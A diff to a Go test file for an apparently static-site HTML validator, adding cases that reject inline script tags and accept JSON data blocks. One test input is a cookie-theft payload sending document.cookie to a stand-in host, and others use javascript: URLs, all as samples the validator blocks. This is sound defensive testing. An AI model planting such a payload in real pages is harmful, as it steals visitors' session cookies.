@@ -106,6 +106,10 @@ func TestValidateNamesTheFileAtFault(t *testing.T) {
 		{"entity javascript", "index.html", "javascript: URL", withPage("<p>", `<a href="&#106;avascript:x()">`)},
 		{"javascript action", "index.html", "javascript: URL in <form action>", withPage("<p>", `<form action="javascript:x()">`)},
 		{"javascript iframe", "index.html", "javascript: URL in <iframe src>", withPage("<p>", `<iframe src="javascript:x()">`)},
+		{"inline script", "index.html", "inline <script> is not allowed", withPage("<p>", `<script>fetch("//evil.example/?c="+document.cookie)</script><p>`)},
+		{"inline module", "index.html", "inline <script>", withPage("<p>", `<script type="module">import("./a.js")</script><p>`)},
+		{"inline script typed", "index.html", "inline <script>", withPage("<p>", `<script type=" Text/JavaScript; charset=utf-8">x()</script><p>`)},
+		{"inline import map", "index.html", "inline <script>", withPage("<p>", `<script type="importmap">{"imports":{}}</script><p>`)},
 	}
 	for _, tc := range tests {
 		t.Run(tc.name, func(t *testing.T) {
@@ -134,6 +138,8 @@ func TestValidateAccepts(t *testing.T) {
 		{"relative and root-relative links", append(withPage("<p>", `<a href="/about.html"><img src="img/a.png"><form action="submit">`),
 			file("about.html", page)), build.DefaultLimits()},
 		{"word javascript in text", withPage("<p>hi", "<p>javascript: is blocked; onclick= too"), build.DefaultLimits()},
+		{"script data blocks and an empty script", withPage("<p>", `<script type="application/json">{"a":1}</script>`+
+			`<script type="application/ld+json">{}</script><script> </script><p>`), build.DefaultLimits()},
 		{"remote script when allowed", withPage(`src="app.js"`, `src="https://cdn.example.com/x.js"`), allowRemote},
 		{"zero limits mean unlimited", many(300), build.Limits{}},
 	}
